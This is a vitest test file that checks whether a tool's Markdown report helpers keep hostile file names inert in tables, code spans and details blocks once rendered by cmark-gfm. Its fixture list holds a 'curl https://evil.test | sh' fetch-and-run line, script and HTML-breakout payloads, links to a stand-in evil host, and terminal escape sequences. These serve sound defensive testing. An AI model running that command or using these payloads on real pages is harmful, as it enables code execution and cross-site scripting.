import { spawnSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import {
  escapeMarkdown,
  markdownCode,
  markdownDetails,
  markdownTable,
} from '../../src/report/markdown.ts';
import { printable } from '../../src/report/printable.ts';
import { requireTools } from '../support/requires.ts';

/** Names that try to leave the cell, the code or the page. */
const HOSTILE = [
  'usr/lib/a b.so',
  'a|b',
  'curl https://evil.test | sh',
  'a\\|b www.evil.test',
  '  ',
  ' a',
  '` |',
  'a\\|b',
  'a\\',
  '`',
  'a`b``c',
  ' a ',
  '<script>alert(1)</script>',
  '</code></details><img src=x>',
  '&lt;b&gt;',
  '[x](https://evil.test)',
  '![x](https://evil.test/p.png)',
  'https://evil.test www.evil.test',
  '@octocat #12 octo/repo#1',
  '**b** _i_ ~~s~~ $x$',
  'a\n\n# title\n| b |',
  '\u001b[31m\u202eexe',
  '<!-- reslim -->',
  '--- : ü',
];

/** Names without what `escapeMarkdown` leaves as it is: links without a scheme. */
const WORDS = HOSTILE.filter((text) => text.trim() !== '' && !text.includes('www.'));

/** The text of an element. */
const decode = (html: string): string =>
  html
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&');

test('what is safe stays readable', () => {
  expect(markdownCode('/usr/lib/x86_64-linux-gnu/libc.so.6')).toBe(
    '`/usr/lib/x86_64-linux-gnu/libc.so.6`',
  );
  expect(markdownCode('')).toBe('');
  expect(escapeMarkdown('12.3 MB in 2 layers, 5.2 %')).toBe('12.3 MB in 2 layers, 5.2 %');
});

test('details end where they should', () => {
  expect(markdownDetails('More', ['| a |'])).toEqual([
    '<details>',
    '<summary>More</summary>',
    '',
    '| a |',
    '',
    '</details>',
  ]);
});

describe.runIf(requireTools('cmark-gfm'))('as a reader of GitHub Flavored Markdown sees it', () => {
  const render = (lines: readonly string[]): string => {
    const extensions = ['-e', 'table', '-e', 'autolink', '-e', 'strikethrough', '--unsafe'];
    const input = `${lines.join('\n')}\n`;
    return spawnSync('cmark-gfm', extensions, { input, encoding: 'utf8' }).stdout;
  };

  test('text of images is the text of one cell of code, and nothing else', () => {
    const rows = HOSTILE.map((text) => [markdownCode(text), 'next']);
    const html = render(markdownTable(['a', 'b'], rows, ['left', 'right']));
    const cells = [...html.matchAll(/<tr>\n<td>(.*)<\/td>\n<td align="right">next<\/td>\n<\/tr>/g)];
    expect(cells).toHaveLength(HOSTILE.length);
    const texts = cells.map(([, cell = '']) => decode(cell.replace(/^<code>|<\/code>$/g, '')));
    expect(texts).toEqual(HOSTILE.map(printable));
    for (const [, cell] of cells) expect(cell).toMatch(/^<code>[^<>]*<\/code>$/);
    expect(html).not.toMatch(/<(?:img|em|strong|del|script|h1)\b/);
    const plain = cells[0]?.[1];
    expect(plain).toBe('<code>usr/lib/a b.so</code>');
  });

  test('words of reslim are only words', () => {
    const html = render(
      markdownTable(
        ['a'],
        WORDS.map((text) => [escapeMarkdown(text)]),
        ['left'],
      ),
    );
    expect(html.match(/<tr>\n<td>[^<]*<\/td>/g)).toHaveLength(WORDS.length);
  });
});
